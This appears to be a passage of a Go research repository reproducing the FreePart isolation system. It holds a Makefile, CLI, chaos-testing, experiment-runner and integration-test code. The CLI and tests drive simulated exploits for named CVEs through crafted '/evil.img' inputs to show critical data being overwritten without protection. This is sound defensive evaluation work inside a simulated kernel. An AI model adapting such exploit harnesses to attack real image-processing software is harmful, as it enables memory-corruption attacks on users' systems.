# Standard checks for the FreePart reproduction. `make check` is the gate:
# vet, build, race-enabled tests, and a fixed-seed chaos soak.

GO ?= go

.PHONY: check vet build test race soak bench

check: vet build race soak

vet:
	$(GO) vet ./...

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Fixed-seed chaos soak: 100 seeds of fault injection over the OMR
# pipeline, asserting zero host crashes and byte-identical outputs.
soak:
	$(GO) test -run TestChaosSoak -count=1 ./internal/chaos/

bench:
	$(GO) test -bench=. -benchmem
