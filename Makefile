# Standard checks for the FreePart reproduction. `make check` is the gate:
# formatting, vet, build, race-enabled tests, and fixed-seed chaos soaks.

GO ?= go

.PHONY: check fmt vet build test race soak shardsoak autoscalesoak overloadsoak isolationsoak defensesoak graysoak partitionsoak bench serving failover autoscale overload isolation defense gray partition

check: fmt vet build race soak shardsoak autoscalesoak overloadsoak isolationsoak defensesoak graysoak partitionsoak

# gofmt cleanliness gate: fails listing any file that gofmt would rewrite.
fmt:
	@out=$$(gofmt -l .); if [ -n "$$out" ]; then echo "gofmt needed:"; echo "$$out"; exit 1; fi

vet:
	$(GO) vet ./...

build:
	$(GO) build ./...

test:
	$(GO) test -count=1 ./...

race:
	$(GO) test -race -count=1 ./...

# Fixed-seed chaos soak: 100 seeds of fault injection over the OMR
# pipeline, asserting zero host crashes and byte-identical outputs.
soak:
	$(GO) test -run TestChaosSoak -count=1 ./internal/chaos/

# Multi-shard chaos soak under the race detector: several seeds across 4
# shards with one shard crash-looping; outputs must match the fault-free
# baseline and per-shard injection logs must replay byte-equal.
shardsoak:
	$(GO) test -race -run TestMultiShardChaosSoak -count=1 ./internal/chaos/

bench:
	$(GO) test -bench=. -benchmem

# Serving-layer scaling sweep: shard counts 1/2/4/8 over the detection
# pipeline, written to BENCH_serving.json (virtual-time RPS + percentiles).
serving:
	$(GO) run ./cmd/experiments -exp serving -json BENCH_serving.json

# Failover drill: the detection stream served undisturbed and with one
# shard killed mid-window, written to BENCH_failover.json (RPS/p99 with
# and without the kill, drains, migrations).
failover:
	$(GO) run ./cmd/experiments -exp failover -json BENCH_failover.json

# Autoscale soak under the race detector: the load ramp scaling a pool in
# both directions while shard 1 crash-loops; outputs must match the
# fixed-pool fault-free baseline and sched.Event logs must replay
# byte-equal.
autoscalesoak:
	$(GO) test -race -run TestAutoscaleSoak -count=1 ./internal/chaos/

# Autoscaling drill: the tracking load ramp under fixed pools and the
# control plane, written to BENCH_autoscale.json (p99 and shard-seconds
# versus the fixed n=max pool, scale/rebalance/batch activity).
autoscale:
	$(GO) run ./cmd/experiments -exp autoscale -json BENCH_autoscale.json

# Overload soak under the race detector: a two-tenant load at 4x capacity
# with shard 1 crash-looping; sheds must stay bounded, the light tenant
# must keep getting service, and results, per-shard event subsequences,
# and injection logs must replay byte-equal.
overloadsoak:
	$(GO) test -race -run TestOverloadSoak -count=1 ./internal/chaos/

# Overload drill: the two-tenant tracking load offered at 1/2/4/10x the
# pool's calibrated capacity under the bounded admission queue and deadline
# shedding, admissions ordered FIFO vs weighted fair queueing, written to
# BENCH_overload.json (goodput, shed split, Jain fairness, p99 vs 1x).
overload:
	$(GO) run ./cmd/experiments -exp overload -json BENCH_overload.json

# Isolation soak under the race detector: the multi-shard crash-loop soak
# run under the tiered policy (process-tier loading/processing, MPK-domain
# visualizing/storing); outputs must match the fault-free tiered baseline
# and injection logs must replay byte-equal.
isolationsoak:
	$(GO) test -race -run TestIsolationChaosSoak -count=1 ./internal/chaos/

# Isolation frontier: the 18-CVE corpus replayed under every tier policy
# (paper / tiered / erim / none) plus the serving overhead of each, written
# to BENCH_isolation.json (blocked matrix, critical path, domain switches).
isolation:
	$(GO) run ./cmd/experiments -exp isolation -json BENCH_isolation.json

# Defense soak under the race detector: the adaptive controller's full
# sense/escalate/quarantine/anneal arc driven under background chaos across
# several seeds; decision logs, outcome classes, injection logs, and
# failover events must replay byte-equal.
defensesoak:
	$(GO) test -race -run TestDefenseSoak -count=1 ./internal/chaos/

# Gray-failure soak under the race detector: a crash-looping shard and a
# slow-but-alive shard in the same 4-shard pool with suspicion scoring and
# hedging armed; outputs must match the fault-free baseline and injection
# logs, failover events, suspicion scores, and hedge counters must replay
# byte-equal.
graysoak:
	$(GO) test -race -run TestGraySoak -count=1 ./internal/chaos/

# Gray-failure drill: the detection stream served with one shard alive but
# 10x slow, unmitigated / drain-only / hedge+drain versus fault-free,
# written to BENCH_gray.json (p99 frontier, gray drains, hedge counters,
# extra-work fraction).
gray:
	$(GO) run ./cmd/experiments -exp gray -json BENCH_gray.json

# Partition soak under the race detector: a Zipf-keyed stream over a
# range-partitioned keyed plane with one shard crash-looping and a hot-range
# split drill mid-window; results, placement memory, partition metadata,
# injection logs, failover events, and metrics must replay byte-equal, and
# the zero-cost guard must hold the disabled plane bit-identical.
partitionsoak:
	$(GO) test -race -run 'TestPartitionSoak|TestPartitionZeroCost' -count=1 ./internal/chaos/

# Partition drill: the Zipf visit stream under round-robin / locality /
# partition-aware placement, plus the hot-range melt with and without the
# load-median rebalance, written to BENCH_partition.json (warm-hit ratios,
# p50/p99, sessions moved, split key).
partition:
	$(GO) run ./cmd/experiments -exp partition -json BENCH_partition.json

# Adaptive-defense drill: the 18-CVE campaign replayed against the four
# static presets and the adaptive controller (erim floor), written to
# BENCH_defense.json (containment, controller decisions, steady-state
# overhead after annealing).
defense:
	$(GO) run ./cmd/experiments -exp defense -json BENCH_defense.json
