// Command freepart is the user-facing CLI of the FreePart reproduction:
//
//	freepart analyze                     # hybrid API categorization + coverage
//	freepart apis [-framework simcv]     # list categorized APIs
//	freepart run -app 8                  # run an evaluation app unprotected
//	freepart protect -app 8              # run it under FreePart, print stats
//	freepart attack -cve CVE-2017-12597  # demonstrate an attack with/without FreePart
//	freepart chaos -seeds 10             # fault-injection sweep with equivalence check
//	freepart list                        # list the evaluation applications
package main

import (
	"flag"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd, args := os.Args[1], os.Args[2:]
	var err error
	switch cmd {
	case "analyze":
		err = cmdAnalyze()
	case "apis":
		err = cmdAPIs(args)
	case "list":
		err = cmdList()
	case "run":
		err = cmdRun(args, false)
	case "protect":
		err = cmdRun(args, true)
	case "attack":
		err = cmdAttack(args)
	case "chaos":
		err = cmdChaos(args)
	default:
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "error:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage: freepart <command> [flags]

commands:
  analyze    run the hybrid analysis and report categorization + coverage
  apis       list categorized framework APIs (-framework to filter)
  list       list the evaluation applications
  run        run an application unprotected (-app <id>, -scale <n>)
  protect    run an application under FreePart (-app <id>, -scale <n>)
  attack     demonstrate an attack (-cve <id>) with and without FreePart
  chaos      sweep seeded fault injection over the pipelines (-seed, -seeds,
             -intensity, -sheets, -requests) and verify output equivalence`)
}

// hybrid runs the dynamic suite and returns the analyzer + categorization.
func hybrid() (*analysis.Analyzer, *analysis.Categorization, *trace.Runner) {
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(k, runner)
	a := analysis.New(reg, runner.Recorder)
	return a, a.Categorize(), runner
}

func cmdAnalyze() error {
	a, cat, runner := hybrid()
	acc, wrong := a.Accuracy(cat)
	fmt.Printf("hybrid categorization: %d APIs, accuracy %.1f%% against ground truth\n",
		a.Registry.Len(), acc*100)
	for _, w := range wrong {
		fmt.Println("  mismatch:", w)
	}
	if len(cat.Reduced) > 0 {
		fmt.Println("memory-copy-via-file reduction fired for:", cat.Reduced)
	}
	for _, fw := range a.Registry.Frameworks() {
		cov := runner.CoverageFor(fw)
		fmt.Printf("  %-10s API coverage %.1f%% (%d/%d), code coverage %.0f%%\n",
			fw, cov.APIPct(), cov.APICovered, cov.APITotal, cov.CodeCoverage)
	}
	rep := a.Stateful()
	fmt.Printf("stateful APIs: %d (%d with shared state)\n", len(rep.Stateful), len(rep.Shared))
	return nil
}

func cmdAPIs(args []string) error {
	fs := flag.NewFlagSet("apis", flag.ExitOnError)
	fw := fs.String("framework", "", "only this framework")
	_ = fs.Parse(args)
	_, cat, _ := hybrid()
	reg := all.Registry()
	for _, api := range reg.All() {
		if *fw != "" && api.Framework != *fw {
			continue
		}
		flags := ""
		if api.Neutral || cat.Neutral[api.Name] {
			flags += " neutral"
		}
		if api.Stateful {
			flags += " stateful"
		}
		if api.Vulnerable() {
			flags += fmt.Sprintf(" CVEs=%v", api.CVEs)
		}
		fmt.Printf("%-4s %-55s %s%s\n", cat.TypeOf(api.Name).String(), api.Name, api.Framework, flags)
	}
	return nil
}

func cmdList() error {
	for _, a := range apps.All() {
		fmt.Printf("%2d  %-22s %-9s %-7s %s\n", a.ID, a.Name, a.Framework, a.Lang, a.Desc)
	}
	return nil
}

func cmdRun(args []string, protected bool) error {
	fs := flag.NewFlagSet("run", flag.ExitOnError)
	id := fs.Int("app", 8, "application id (see freepart list)")
	scale := fs.Int("scale", 1, "input image scale")
	_ = fs.Parse(args)
	a, ok := apps.ByID(*id)
	if !ok {
		return fmt.Errorf("no app %d", *id)
	}
	k := kernel.New()
	var ex core.Caller
	var rt *core.Runtime
	if protected {
		_, cat, _ := hybrid()
		var err error
		rt, err = core.New(k, all.Registry(), cat, core.Default())
		if err != nil {
			return err
		}
		defer rt.Close()
		ex = rt
	} else {
		ex = core.NewDirect(k, all.Registry())
	}
	e := apps.NewEnvScaled(k, ex, a, *scale)
	start := k.Clock.Now()
	if err := a.Run(e); err != nil {
		return err
	}
	elapsed := k.Clock.Now() - start
	mode := "unprotected"
	if protected {
		mode = "FreePart"
	}
	fmt.Printf("%s (%s): %d framework calls, virtual time %v\n", a.Name, mode, len(e.Calls), elapsed)
	if rt != nil {
		s := rt.Metrics.Snapshot()
		fmt.Printf("  ipc=%d bytes=%d lazy=%d eager=%d (lazy fraction %.1f%%) permFlips=%d restarts=%d\n",
			s.IPCCalls, s.BytesMoved, s.LazyCopies, s.EagerCopies, 100*s.LazyFraction(), s.PermFlips, s.Restarts)
		for _, p := range k.Processes() {
			fmt.Printf("  %-26s %s\n", p.Name(), p.State())
		}
	}
	return nil
}

func cmdAttack(args []string) error {
	fs := flag.NewFlagSet("attack", flag.ExitOnError)
	cveID := fs.String("cve", "CVE-2017-12597", "evaluation CVE to exploit")
	_ = fs.Parse(args)
	cve, ok := attack.EvalCVEByID(*cveID)
	if !ok {
		return fmt.Errorf("unknown evaluation CVE %s (see freepart analyze)", *cveID)
	}
	fmt.Printf("%s: %s in %s (%s)\n", cve.ID, cve.Class, cve.API, cve.APIType.Long())

	// Unprotected: the exploit corrupts the app's critical data.
	k1 := kernel.New()
	d := core.NewDirect(k1, all.Registry())
	log1 := &attack.Log{}
	d.Ctx.OnExploit = log1.Handler()
	crit, err := d.Proc.Space().Alloc(32)
	if err != nil {
		return err
	}
	_ = d.Proc.Space().Store(crit.Base, []byte("critical-data"))
	k1.FS.WriteFile("/evil.img", attack.Corrupt(cve.ID, crit.Base, []byte("OWNED")))
	_, _, _ = d.Call("cv.imread", framework.Str("/evil.img"))
	got, _ := d.Proc.Space().Load(crit.Base, 5)
	fmt.Printf("unprotected: exploit fired=%v, critical data now %q, process %s\n",
		log1.Last() != nil, got, d.Proc.State())

	// Protected: same exploit under FreePart.
	k2 := kernel.New()
	_, cat, _ := hybrid()
	rt, err := core.New(k2, all.Registry(), cat, core.Default())
	if err != nil {
		return err
	}
	defer rt.Close()
	log2 := &attack.Log{}
	rt.OnExploit = log2.Handler()
	crit2, err := rt.Host.Space().Alloc(32)
	if err != nil {
		return err
	}
	_ = rt.Host.Space().Store(crit2.Base, []byte("critical-data"))
	rt.RegisterCritical(crit2)
	k2.FS.WriteFile("/evil.img", attack.Corrupt(cve.ID, crit2.Base, []byte("OWNED")))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	got2, _ := rt.Host.Space().Load(crit2.Base, 13)
	fmt.Printf("FreePart:    exploit fired=%v, critical data now %q, host %s\n",
		log2.Last() != nil, got2, rt.Host.State())
	s := rt.Metrics.Snapshot()
	fmt.Printf("             restarts=%d\n", s.Restarts)
	return nil
}
