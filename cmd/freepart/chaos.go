package main

import (
	"bytes"
	"flag"
	"fmt"
	"reflect"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/workload"
)

// cmdChaos runs the evaluation pipelines under seeded fault injection and
// checks output equivalence against a fault-free run: the availability
// argument of §4.4.2, demonstrated rather than asserted.
func cmdChaos(args []string) error {
	fs := flag.NewFlagSet("chaos", flag.ExitOnError)
	seed := fs.Int64("seed", 1, "first injection seed")
	seeds := fs.Int("seeds", 10, "how many consecutive seeds to sweep")
	intensity := fs.Float64("intensity", 0.05, "fault intensity in [0,1]")
	sheets := fs.Int("sheets", 2, "OMR sheets per run")
	requests := fs.Int("requests", 4, "detection-server requests per run")
	_ = fs.Parse(args)
	if *seeds < 1 {
		return fmt.Errorf("-seeds must be >= 1, got %d", *seeds)
	}

	baseCSV, baseScores, _, err := chaosOMR(nil, *sheets)
	if err != nil {
		return fmt.Errorf("fault-free OMR baseline: %w", err)
	}
	baseDet, err := chaosServer(nil, *requests)
	if err != nil {
		return fmt.Errorf("fault-free server baseline: %w", err)
	}
	fmt.Printf("baseline: OMR scores %v, detections %v\n", baseScores, baseDet)

	diverged := 0
	for s := *seed; s < *seed+int64(*seeds); s++ {
		eng := chaos.New(chaos.Scaled(s, *intensity))
		csv, scores, rt, err := chaosOMR(eng, *sheets)
		ok := err == nil && bytes.Equal(csv, baseCSV) && reflect.DeepEqual(scores, baseScores)
		snap := rt.Metrics.Snapshot()

		engSrv := chaos.New(chaos.Scaled(s, *intensity))
		det, serr := chaosServer(engSrv, *requests)
		srvOK := serr == nil && reflect.DeepEqual(det, baseDet)

		verdict := "ok"
		if !ok || !srvOK {
			verdict = "DIVERGED"
			diverged++
		}
		fmt.Printf("seed %4d: injected=%d restarts=%d retries=%d degraded=%d  [%s]\n",
			s, snap.InjectedFaults+engSrv.Injected(), snap.Restarts, snap.Retries, snap.Degraded, verdict)
		if err != nil {
			fmt.Printf("           OMR error: %v\n", err)
		}
		if serr != nil {
			fmt.Printf("           server error: %v\n", serr)
		}
		if !ok || !srvOK {
			fmt.Printf("           injection log:\n%s", indent(eng.Log()+engSrv.Log()))
		}
	}
	if diverged > 0 {
		return fmt.Errorf("%d/%d seeds diverged from the fault-free baseline", diverged, *seeds)
	}
	fmt.Printf("%d seeds: all outputs byte-identical to the fault-free baseline\n", *seeds)
	return nil
}

// chaosOMR grades OMR sheets under the given engine (nil = fault-free) and
// returns the results.csv bytes and scores.
func chaosOMR(eng *chaos.Engine, sheets int) (csv []byte, scores []int, rt *core.Runtime, err error) {
	cfg := core.Default()
	if eng != nil {
		cfg = core.ChaosConfig(eng)
	}
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	k := kernel.New()
	rt, err = core.New(k, reg, cat, cfg)
	if err != nil {
		return nil, nil, nil, err
	}
	defer rt.Close()
	a, _ := apps.ByID(8) // OMRChecker
	e := apps.NewEnv(k, rt, a)
	func() {
		defer func() {
			if r := recover(); r != nil {
				err = fmt.Errorf("pipeline aborted: %v", r)
			}
		}()
		_, scores, err = apps.OMRGradeAll(e, sheets)
	}()
	if err != nil {
		return nil, nil, rt, err
	}
	csv, err = k.FS.ReadFile(e.Dir + "/results.csv")
	return csv, scores, rt, err
}

// chaosServer runs the detection-server pipeline (examples/server, all
// honest users) under the given engine and returns per-request detections.
func chaosServer(eng *chaos.Engine, requests int) ([]int64, error) {
	cfg := core.Default()
	if eng != nil {
		cfg = core.ChaosConfig(eng)
	}
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	k := kernel.New()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		return nil, err
	}
	defer rt.Close()

	k.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
	model, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
	if err != nil {
		return nil, fmt.Errorf("model load: %w", err)
	}
	gen := workload.New(11)
	det := make([]int64, 0, requests)
	for i := 0; i < requests; i++ {
		path := fmt.Sprintf("/srv/req-%d.img", i)
		k.FS.WriteFile(path, gen.EncodedImage(16, 16, 1))
		img, _, err := rt.Call("cv.imread", framework.Str(path))
		if err != nil {
			return nil, fmt.Errorf("request %d: %w", i, err)
		}
		_, plain, err := rt.Call("cv.CascadeClassifier.detectMultiScale", model[0].Value(), img[0].Value())
		if err != nil {
			return nil, fmt.Errorf("detect %d: %w", i, err)
		}
		det = append(det, plain[0].Int)
	}
	if !rt.Host.Alive() {
		return nil, fmt.Errorf("host died: %s", rt.Host.ExitReason())
	}
	return det, nil
}

func indent(s string) string {
	var b bytes.Buffer
	for _, line := range bytes.Split([]byte(s), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		b.WriteString("             ")
		b.Write(line)
		b.WriteByte('\n')
	}
	return b.String()
}
