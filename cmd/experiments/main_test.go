package main

import (
	"sort"
	"strings"
	"testing"
)

// experimentRunners builds the real runner registry with default options.
func experimentRunners() map[string]func() (string, error) {
	return buildRunners(runnerOpts{samples: 8, sheets: 2, scale: 8, maxK: 12, requests: 64})
}

// TestListIncludesPartition pins the -list output: the partition experiment
// is registered and the listing is sorted, one name per line.
func TestListIncludesPartition(t *testing.T) {
	var b strings.Builder
	printExperiments(&b, experimentRunners())
	out := b.String()
	if !strings.Contains(out, "  partition\n") {
		t.Fatalf("-list output lacks the partition experiment:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	for i, l := range lines {
		lines[i] = strings.TrimSpace(l)
	}
	if len(lines) != len(experimentRunners()) {
		t.Fatalf("listing has %d lines, want %d", len(lines), len(experimentRunners()))
	}
	if !sort.StringsAreSorted(lines) {
		t.Fatalf("listing is not sorted:\n%s", out)
	}
}

// TestSortedKeysOrder pins the helper both -list and the unknown -exp error
// path rely on.
func TestSortedKeysOrder(t *testing.T) {
	keys := sortedKeys(experimentRunners())
	if !sort.StringsAreSorted(keys) {
		t.Fatalf("sortedKeys returned unsorted keys: %v", keys)
	}
	if len(keys) != len(experimentRunners()) {
		t.Fatalf("sortedKeys lost entries: %d vs %d", len(keys), len(experimentRunners()))
	}
}
