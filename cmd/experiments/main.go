// Command experiments regenerates every table and figure of the paper's
// evaluation. Run all of them, or pick one with -exp:
//
//	experiments                  # everything
//	experiments -exp table9      # one experiment
//	experiments -exp fig4 -samples 50 -sheets 2
//	experiments -exp fig13 -scale 8
//	experiments -list            # print the available experiments
//
// Experiments: table1..table12, fig4, fig6, fig7, fig13, a14, security,
// robustness, serving, failover, autoscale, overload, isolation, defense,
// gray, partition.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"sort"

	"freepart.dev/freepart/internal/report"
)

func main() {
	exp := flag.String("exp", "", "experiment to run (empty = all)")
	list := flag.Bool("list", false, "print the available experiments, sorted, and exit")
	samples := flag.Int("samples", 8, "random partitionings per K (fig4/a14)")
	sheets := flag.Int("sheets", 2, "OMR sheets per measurement run")
	scale := flag.Int("scale", 8, "input image scale for overhead runs (fig13)")
	maxK := flag.Int("maxk", 12, "largest partition count in the fig4 sweep")
	requests := flag.Int("requests", 64, "request-stream length for the serving experiment")
	jsonOut := flag.String("json", "", "write the selected bench experiment's rows as JSON to this path")
	flag.Parse()

	runners := buildRunners(runnerOpts{
		samples: *samples, sheets: *sheets, scale: *scale, maxK: *maxK,
		requests: *requests, jsonOut: *jsonOut,
	})

	if *list {
		printExperiments(os.Stdout, runners)
		return
	}
	if *exp != "" {
		fn, ok := runners[*exp]
		if !ok {
			fmt.Fprintf(os.Stderr, "unknown experiment %q; available:\n", *exp)
			printExperiments(os.Stderr, runners)
			os.Exit(2)
		}
		run(*exp, fn)
		return
	}
	for _, name := range sortedKeys(runners) {
		run(name, runners[name])
	}
}

// runnerOpts carries the flag values the parameterized experiments need.
type runnerOpts struct {
	samples, sheets, scale, maxK, requests int
	jsonOut                                string
}

// buildRunners is the single registry of experiments, shared by -list, -exp
// dispatch, and the run-everything default.
func buildRunners(o runnerOpts) map[string]func() (string, error) {
	return map[string]func() (string, error){
		"table1":     report.Table1,
		"table2":     report.Table2,
		"table3":     report.Table3,
		"table4":     report.Table4,
		"table5":     report.Table5,
		"table6":     report.Table6,
		"table7":     report.Table7,
		"table8":     report.Table8,
		"table9":     func() (string, error) { return report.Table9(o.sheets) },
		"table10":    report.Table10,
		"table11":    report.Table11,
		"table12":    report.Table12,
		"fig4":       func() (string, error) { return report.Fig4(4, o.maxK, o.samples, o.sheets) },
		"fig6":       report.Fig6,
		"fig7":       report.Fig7,
		"fig12":      report.Fig12,
		"fig13":      func() (string, error) { return report.Fig13(o.scale) },
		"ablation":   func() (string, error) { return report.Ablation(o.sheets) },
		"a14":        func() (string, error) { return report.A14(o.samples, o.sheets) },
		"security":   report.SecurityMatrix,
		"robustness": func() (string, error) { return report.TableRobustness(5, o.sheets) },
		"serving":    func() (string, error) { return report.TableServing(o.requests, o.jsonOut) },
		"failover":   func() (string, error) { return report.TableFailover(o.requests, o.jsonOut) },
		"autoscale":  func() (string, error) { return report.TableAutoscale(o.jsonOut) },
		"overload":   func() (string, error) { return report.TableOverload(o.jsonOut) },
		"isolation":  func() (string, error) { return report.TableIsolation(o.jsonOut) },
		"defense":    func() (string, error) { return report.TableDefense(o.jsonOut) },
		"gray":       func() (string, error) { return report.TableGray(o.requests, o.jsonOut) },
		"partition":  func() (string, error) { return report.TablePartition(o.jsonOut) },
	}
}

// printExperiments writes the available experiment names, sorted, one per
// line — the single listing both -list and the unknown -exp error use, so
// the two can't drift.
func printExperiments(w io.Writer, m map[string]func() (string, error)) {
	for _, n := range sortedKeys(m) {
		fmt.Fprintf(w, "  %s\n", n)
	}
}

func sortedKeys(m map[string]func() (string, error)) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func run(name string, fn func() (string, error)) {
	fmt.Printf("=== %s ===\n", name)
	out, err := fn()
	if err != nil {
		fmt.Fprintf(os.Stderr, "%s failed: %v\n", name, err)
		os.Exit(1)
	}
	fmt.Println(out)
}
