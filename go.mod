module freepart.dev/freepart

go 1.22
