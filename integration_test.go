// Integration tests spanning every layer: the README quickstart flow, the
// full offline→online workflow of Fig. 5, and cross-cutting invariants
// that only hold when the substrate, frameworks, analysis, and runtime
// compose correctly.
package freepart

import (
	"errors"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
	"freepart.dev/freepart/internal/workload"
)

// TestQuickstartFlow mirrors the README snippet exactly.
func TestQuickstartFlow(t *testing.T) {
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(kernel.New(), runner)
	cat := analysis.New(reg, runner.Recorder).Categorize()

	rt, err := core.New(k, reg, cat, core.Default())
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()

	gen := workload.New(1)
	k.FS.WriteFile("/photo.img", gen.EncodedImage(32, 32, 1))

	img, _, err := rt.Call("cv.imread", framework.Str("/photo.img"))
	if err != nil {
		t.Fatal(err)
	}
	blur, _, err := rt.Call("cv.GaussianBlur", img[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imshow", framework.Str("w"), blur[0].Value()); err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imwrite", framework.Str("/out.img"), blur[0].Value()); err != nil {
		t.Fatal(err)
	}
	if !k.FS.Exists("/out.img") {
		t.Fatal("quickstart produced no output")
	}
	if len(k.Processes()) != 5 {
		t.Fatalf("%d processes, want 5", len(k.Processes()))
	}
}

// TestFullWorkflowOfflineToOnline runs the complete Fig. 5 workflow: trace
// the framework suites, categorize, derive syscall policies from the
// target app's API usage, run the app protected, then attack it.
func TestFullWorkflowOfflineToOnline(t *testing.T) {
	// Offline.
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(kernel.New(), runner)
	analyzer := analysis.New(reg, runner.Recorder)
	cat := analyzer.Categorize()
	if acc, wrong := analyzer.Accuracy(cat); acc < 0.97 {
		t.Fatalf("categorization accuracy %.2f: %v", acc, wrong)
	}

	// Discover the app's API usage with a dry run.
	app, _ := apps.ByID(8)
	dryK := kernel.New()
	dryEnv := apps.NewEnv(dryK, core.NewDirect(dryK, all.Registry()), app)
	if err := app.Run(dryEnv); err != nil {
		t.Fatal(err)
	}

	// Online, with per-application syscall lockdown.
	k := kernel.New()
	cfg := core.Default()
	cfg.AppAPIs = dryEnv.Calls
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	env := apps.NewEnv(k, rt, app)
	if err := app.Run(env); err != nil {
		t.Fatalf("protected run: %v", err)
	}
	for _, p := range k.Processes() {
		if len(p.Denials()) != 0 {
			t.Fatalf("false-positive denial in %s: %v", p.Name(), p.Denials())
		}
	}

	// Attack through every loading-type CVE the app is exposed to.
	log := &attack.Log{}
	rt.OnExploit = log.Handler()
	crit, _ := rt.Host.Space().Alloc(32)
	_ = rt.Host.Space().Store(crit.Base, []byte("master-answers"))
	rt.RegisterCritical(crit)
	for _, cve := range attack.EvalCVEs() {
		if cve.API != "cv.imread" {
			continue
		}
		k.FS.WriteFile("/evil.img", attack.Corrupt(cve.ID, crit.Base, []byte("OWNED")))
		_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
		if err := rt.RestartDead(); err != nil {
			t.Fatal(err)
		}
	}
	data, _ := rt.Host.Space().Load(crit.Base, 14)
	if string(data) != "master-answers" {
		t.Fatal("critical data corrupted despite FreePart")
	}
	if !rt.Host.Alive() {
		t.Fatal("host died")
	}
}

// TestEveryEvalCVEFires checks that each Table 5 CVE actually detonates at
// its documented API site when driven with a crafted input.
func TestEveryEvalCVEFires(t *testing.T) {
	reg := all.Registry()
	for _, cve := range attack.EvalCVEs() {
		cve := cve
		t.Run(cve.ID, func(t *testing.T) {
			k := kernel.New()
			trace.SetupSuiteInputs(k)
			p := k.Spawn("victim")
			ctx := framework.NewCtx(k, p)
			log := &attack.Log{}
			ctx.OnExploit = log.Handler()
			api := reg.MustGet(cve.API)

			fireViaInput(t, k, ctx, api, attack.DoS(cve.ID))
			if log.Last() == nil || log.Last().CVE != cve.ID {
				t.Fatalf("%s did not fire at %s", cve.ID, cve.API)
			}
		})
	}
}

// fireViaInput drives an API with a crafted payload through whichever
// input channel the API consumes.
func fireViaInput(t *testing.T, k *kernel.Kernel, ctx *framework.Ctx, api *framework.API, crafted []byte) {
	t.Helper()
	switch api.Name {
	case "cv.imread", "cv.cvLoad", "torch.load":
		k.FS.WriteFile("/evil", crafted)
		_, _ = api.Exec(ctx, []framework.Value{framework.Str("/evil")})
	case "cv.VideoCapture.read":
		evil := kernel.NewCamera("/dev/evilcam")
		evil.Push(crafted)
		k.AddCamera(evil)
		h, _, err := ctx.NewBlob([]byte("/dev/evilcam"))
		if err != nil {
			t.Fatal(err)
		}
		_, _ = api.Exec(ctx, []framework.Value{framework.Obj(h)})
	case "cv.imshow":
		id, _, err := ctx.NewMatFromBytes(1, len(crafted), 1, crafted)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = api.Exec(ctx, []framework.Value{framework.Str("w"), framework.Obj(id)})
	case "cv.CascadeClassifier.detectMultiScale":
		model, _, err := ctx.NewBlob([]byte{'C', 'A', 'S', 'C', 100, 0, 0, 0, 4})
		if err != nil {
			t.Fatal(err)
		}
		id, _, err := ctx.NewMatFromBytes(1, len(crafted), 1, crafted)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = api.Exec(ctx, []framework.Value{framework.Obj(model), framework.Obj(id)})
	case "cv.warpPerspective", "cv.equalizeHist", "cv.findContours":
		id, _, err := ctx.NewMatFromBytes(1, len(crafted), 1, crafted)
		if err != nil {
			t.Fatal(err)
		}
		args := []framework.Value{framework.Obj(id)}
		if api.Name == "cv.warpPerspective" {
			hid, h, herr := ctx.NewTensor(3, 3)
			if herr != nil {
				t.Fatal(herr)
			}
			_ = h.SetValues([]float64{1, 0, 0, 0, 1, 0, 0, 0, 1})
			args = append(args, framework.Obj(hid))
		}
		_, _ = api.Exec(ctx, args)
	case "tf.nn.conv3d":
		vals := padTrigger(crafted, 27)
		id, tt, err := ctx.NewTensor(3, 3, 3)
		if err != nil {
			t.Fatal(err)
		}
		_ = tt.SetValues(vals)
		_, _ = api.Exec(ctx, []framework.Value{framework.Obj(id)})
	case "tf.nn.avg_pool", "tf.nn.max_pool", "tf.matmul":
		vals := padTrigger(crafted, 64)
		id, tt, err := ctx.NewTensor(8, 8)
		if err != nil {
			t.Fatal(err)
		}
